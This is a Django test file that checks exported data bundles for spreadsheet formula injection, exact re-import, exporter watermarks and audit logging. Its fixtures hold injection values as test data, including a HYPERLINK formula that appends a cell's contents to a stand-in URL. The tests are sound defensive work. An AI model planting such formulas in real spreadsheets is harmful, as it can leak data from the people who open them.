"""Exported bundles cannot run formulas in a spreadsheet, import back exactly, say who made them, and are
audited (issue 14, item 9)."""

import csv
import io
import json
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from openpyxl import load_workbook

from sanling.accounts.models import Profile
from sanling.accounts.scope import Scope
from sanling.audit.models import AuditEntry
from sanling.events.models import Event
from sanling.exchange.exporter import bundle_export
from sanling.exchange.importer import bundle_import
from sanling.regions.models import Region
from sanling.subjects.models import Subject

from .conftest import DISPUTE_ROWS, EVENT_ROWS, SUBJECT_ROWS

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

DANGEROUS = {
    ("V0001", "address"): "=1+1",
    ("V0001", "contact_name"): "-张三",
    ("U0001", "address"): "'单引号开头",
    ("U0001", "contact_name"): "@SUM(A1)",
    ("U0002", "address"): "+86 金牛路",
}
TITLE = '=HYPERLINK("http://example.com/?q="&A1,"点我")'


@pytest.fixture
def dangerous_bundle(bundle):
    subjects = [list(row) for row in SUBJECT_ROWS]
    index = {row[0]: row for row in subjects[1:]}
    for (code, field), value in DANGEROUS.items():
        index[code][SUBJECT_ROWS[0].index(field)] = value
    events = [list(row) for row in EVENT_ROWS]
    events[1][4] = TITLE
    disputes = [list(row) for row in DISPUTE_ROWS]
    disputes[2][4] = "+1 纠纷摘要"
    bundle_import(bundle(subjects=subjects, events=events, disputes=disputes))
    return bundle


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def zip_cells(path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            cell
            for name in archive.namelist()
            if name.endswith(".csv")
            for cell in csv_cells(archive.read(name))
        ]


def test_a_csv_bundle_writes_no_cell_starting_with_a_formula_character(dangerous_bundle, tmp_path):
    bundle_export(tmp_path / "out")
    cells = [cell for path in (tmp_path / "out").glob("*.csv") for cell in csv_cells(path.read_bytes())]
    assert "'=1+1" in cells and f"'{TITLE}" in cells and "'+1 纠纷摘要" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_a_zip_bundle_writes_no_cell_starting_with_a_formula_character(dangerous_bundle, tmp_path):
    bundle_export(tmp_path / "out.zip")
    cells = zip_cells(tmp_path / "out.zip")
    assert "'-张三" in cells and "'@SUM(A1)" in cells and "'+86 金牛路" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_a_text_beginning_with_an_apostrophe_gets_a_second_one_in_csv(dangerous_bundle, tmp_path):
    bundle_export(tmp_path / "out.zip")
    assert "''单引号开头" in zip_cells(tmp_path / "out.zip")


def test_an_xlsx_bundle_writes_formula_text_as_text_cells(dangerous_bundle, tmp_path):
    bundle_export(tmp_path / "out.xlsx")
    workbook = load_workbook(tmp_path / "out.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
    assert {cell.value for cell in risky} >= {"=1+1", TITLE, "-张三"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)


@pytest.mark.parametrize("suffix", ["", ".zip", ".xlsx"])
def test_formula_text_and_apostrophes_import_back_exactly(dangerous_bundle, tmp_path, suffix):
    exported = tmp_path / f"out{suffix}"
    bundle_export(exported)
    Subject.objects.filter(code="V0001").update(address="changed")
    Event.objects.filter(ref="E1").update(title="changed")
    bundle_import(exported)
    for (code, field), value in DANGEROUS.items():
        assert getattr(Subject.objects.get(code=code), field) == value
    assert Event.objects.get(ref="E1").title == TITLE
    assert not bundle_import(exported).changed


def test_a_hand_written_apostrophe_before_ordinary_text_is_kept(bundle):
    subjects = [list(row) for row in SUBJECT_ROWS]
    subjects[1][7] = "'金牛路"
    bundle_import(bundle(subjects=subjects))
    assert Subject.objects.get(code="V0001").address == "'金牛路"


def test_a_zip_bundle_carries_a_manifest_naming_who_when_and_scope(dangerous_bundle, tmp_path):
    call_command("export", str(tmp_path / "out.zip"), stdout=io.StringIO())
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        manifest = json.loads(archive.read("manifest.json"))
        assert "导出人" in archive.comment.decode()
    assert manifest["scope"] == "全部数据" and manifest["exported_by"] and manifest["exported_at"]
    assert manifest["files"]["subjects.csv"] == 3


def test_an_xlsx_bundle_carries_its_watermark_in_properties_and_a_sheet(dangerous_bundle, tmp_path):
    shabei = Region.objects.get(code="411103001000")
    bundle_export(tmp_path / "out.xlsx", scope=Scope(role="county_admin", region=shabei, department=None))
    workbook = load_workbook(tmp_path / "out.xlsx")
    assert "沙北街道（411103001000）及下级" in workbook.properties.subject
    assert workbook.properties.creator
    assert (
        dict(workbook["导出说明"].iter_rows(values_only=True))["数据范围"] == "沙北街道（411103001000）及下级"
    )
    assert "沙北街道" in workbook["subjects"].oddHeader.center.text


def test_the_marked_xlsx_bundle_still_imports(dangerous_bundle, tmp_path):
    bundle_export(tmp_path / "out.xlsx")
    assert not bundle_import(tmp_path / "out.xlsx").changed


def test_the_export_command_is_audited_with_what_it_held(dangerous_bundle, tmp_path):
    user = get_user_model().objects.create_user(username="admin_user", password="pw-secret-123")
    Profile.objects.create(user=user, role="county_admin", region=Region.objects.get(code="411103000000"))
    call_command("export", str(tmp_path / "out.zip"), "--as", "admin_user", stdout=io.StringIO())
    entry = AuditEntry.objects.get(action="export")
    assert entry.actor_name == "admin_user" and entry.verb == "export.bundle"
    assert entry.changes["after"]["rows"]["subjects"] == Subject.objects.count()
    assert entry.changes["after"]["personal_fields"] == [
        "contact_name_masked",
        "contact_phone_masked",
        "parties_masked",  # the disputes' parties (issue 17)
    ]  # no --reason: masked
    assert entry.changes["after"]["mark"]["exported_by"] == "admin_user"


def test_the_export_command_without_as_is_audited_too(dangerous_bundle, tmp_path):
    call_command("export", str(tmp_path / "out"), stdout=io.StringIO())
    assert AuditEntry.objects.filter(action="export", object_key="bundle").count() == 1


def test_numbers_stay_numbers_and_only_text_is_marked_in_csv():
    from sanling.core.workbooks import csv_row, csv_untext

    assert csv_row([-3, "-3", 1.5, None, "'", "a'b"]) == [-3, "'-3", 1.5, "", "''", "a'b"]
    assert [csv_untext(cell) for cell in ("'-3", "''", "'", "'abc")] == ["-3", "'", "'", "'abc"]
